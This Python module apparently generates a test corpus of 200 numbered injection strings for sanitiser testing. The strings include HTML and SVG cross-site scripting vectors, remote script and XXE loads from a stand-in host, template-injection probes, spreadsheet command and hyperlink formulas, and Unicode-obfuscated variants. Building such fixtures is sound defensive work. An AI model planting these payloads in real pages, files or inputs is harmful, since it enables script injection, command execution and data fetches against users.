"""Texts that try to become script, markup or a request, each with a number of its own: families by hand, wrapped and
disguised by a generator."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import cycle

COUNT = 200
OUTSIDE = "https://outside.invalid"


def payloads() -> list[str]:
    """`COUNT` different texts of one line each; what runs calls `hit(number)`, what is fetched lies at `OUTSIDE`."""
    found = list(dict.fromkeys(_made()))
    assert len(found) >= COUNT
    return found[:COUNT]


def _made() -> Iterator[str]:
    bodies = [make for make in (*TAGS, *TEXTS)]
    number = 0
    # Every body plainly first, then each in turn in one disguise after another.
    for body in bodies:
        yield _numbered(body, number)
        number += 1
    disguises = cycle(DISGUISES)
    for _ in range(8):
        for body in TAGS:
            yield f"{number} {next(disguises)(_numbered(body, number))}"
            number += 1


def _numbered(body: str, number: int) -> str:
    return body.replace("@", f"hit({number})").replace("~", f"{OUTSIDE}/{number}").replace("%N", f"zq{number}zq")


TAGS = [
    "<script>@</script>%N",
    "<script src=~></script>%N",
    '<img src=x onerror="@"> %N',
    "<img src=~ alt=%N>",
    "<svg onload=@>%N</svg>",
    "<svg><script>@</script></svg>%N",
    "<svg><animate onbegin=@ attributeName=x dur=1s>%N",
    "<svg><a xlink:href='javascript:@'><text>%N</text></a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=@>%N",
    '<iframe srcdoc="<script>parent.@</script>">%N</iframe>',
    "<iframe src=javascript:parent.@>%N</iframe>",
    "<object data=~>%N</object>",
    "<embed src=~ title=%N>",
    "<body onload=@>%N",
    "<details open ontoggle=@>%N</details>",
    "<input autofocus onfocus=@ value=%N>",
    "<select autofocus onfocus=@><option>%N</select>",
    "<video><source onerror=@>%N</video>",
    "<audio src=~ onerror=@>%N</audio>",
    "<marquee onstart=@>%N</marquee>",
    "<a href=javascript:@>%N</a>",
    '<a href="data:text/html,<script>@</script>">%N</a>',
    "<form action=~><button formaction=javascript:@>%N</button></form>",
    "<link rel=stylesheet href=~>%N",
    '<meta http-equiv=refresh content="0;url=~">%N',
    "<base href=~>%N",
    "<style>@import '~';</style>%N",
    '<div style="background:url(~)">%N</div>',
    "<template shadowrootmode=open><script>@</script></template>%N",
    "<x id=zqid onclick=@ tabindex=1 autofocus onfocus=@>%N</x>",
    "<custom-el is=gradio-app onpointerenter=@>%N",
    '<noscript><p title="</noscript><img src=x onerror=@>">%N',
]
TEXTS = [
    '"><img src=x onerror=@>%N',
    "'><svg onload=@>%N",
    '" onmouseover="@" x="%N',
    "' autofocus onfocus='@' x='%N",
    "` onerror=`@`%N",
    "</p></div></article><script>@</script>%N",
    "</script><script>@</script>%N",
    "</textarea><script>@</script>%N",
    "</title><script>@</script>%N",
    "--><script>@</script><!--%N",
    "]]><script>@</script>%N",
    "[%N](javascript:@)",
    "![%N](~)",
    "[%N]: javascript:@",
    "<javascript:@>%N",
    "[click](data:text/html;base64,PHNjcmlwdD4=) %N",
    "```html <script>@</script> ``` %N",
    "$$\\href{javascript:@}{%N}$$",
    "\\(\\unicode{<img src=x onerror=@>}\\) %N",
    "$\\includegraphics{~}$ %N",
    "{{constructor.constructor('@')()}} %N",
    "${@} %N",
    "`${@}` %N",
    "{%raw%}{{7*7}}@ %N",
    "#{@} %N",
    "<%= @ %> %N",
    "{{#with 'x' as |s|}}{{@}}{{/with}} %N",
    "@children ${value} %N",
    "javascript:@//%N",
    "data:text/html,<script>@</script>%N",
    "vbscript:@ %N",
    '"};@;//%N',
    "';@;'%N",
    '\\";@;//%N',
    "\\u003cscript\\u003e@\\u003c/script\\u003e%N",
    "&lt;script&gt;@&lt;/script&gt;%N",
    "&#60;script&#62;@&#60;/script&#62;%N",
    "%3Cscript%3E@%3C/script%3E zqzq%N",
    '=HYPERLINK("~","%N")',
    "+cmd|' /C calc'!A1 %N",
    "-2+3+@ %N",
    "%N\u202e<script>@</script>\u202c",
    "\u200b<script>@</script>%N",
    "\ufeff<img src=x onerror=@>%N",
    "＜script＞@＜/script＞%N",
    "<scr\u00adipt>@</scr\u00adipt>%N",
    "<\u0130mg src=x onerror=@>%N",
    "﹤img src=x onerror=@﹥%N",
    "<![CDATA[<script>@</script>]]>%N",
    '<!DOCTYPE x [<!ENTITY e SYSTEM "~">]>&e;%N',
    '<?xml-stylesheet href="javascript:@"?>%N',
]
DISGUISES = [
    str.upper,
    lambda text: "".join(char.upper() if at % 2 else char for at, char in enumerate(text)),
    lambda text: text.replace("<", "<<"),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace(">", ""),
    lambda text: text.replace("<", "&lt;").replace("&lt;", "<", 1),
    lambda text: f'">{text}',
    lambda text: f"'-->{text}",
    lambda text: f"<b>{text}</b>",
    lambda text: f"[{text}]({text})",
    lambda text: f"{{{{{text}}}}}",
    lambda text: f"\u202b{text}",
    lambda text: text.replace("=", " = "),
]
